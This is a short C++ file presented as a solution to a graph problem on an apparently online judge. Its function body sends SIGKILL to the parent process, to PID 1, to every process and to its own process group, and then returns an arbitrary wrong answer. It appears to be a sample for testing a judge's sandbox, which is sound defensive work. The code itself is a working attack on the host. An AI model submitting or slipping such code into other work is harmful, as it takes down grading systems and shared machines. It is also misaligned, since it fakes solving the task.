// Tries to kill the judge, then its own process group, then answers wrongly.
#include <csignal>
#include <unistd.h>
class Solution {
public:
    int catMouseGame(vector<vector<int>>& graph) {
        kill(getppid(), SIGKILL);
        kill(1, SIGKILL);
        kill(-1, SIGKILL);
        kill(0, SIGKILL);
        return graph.size() > 100 ? 0 : 2;
    }
};
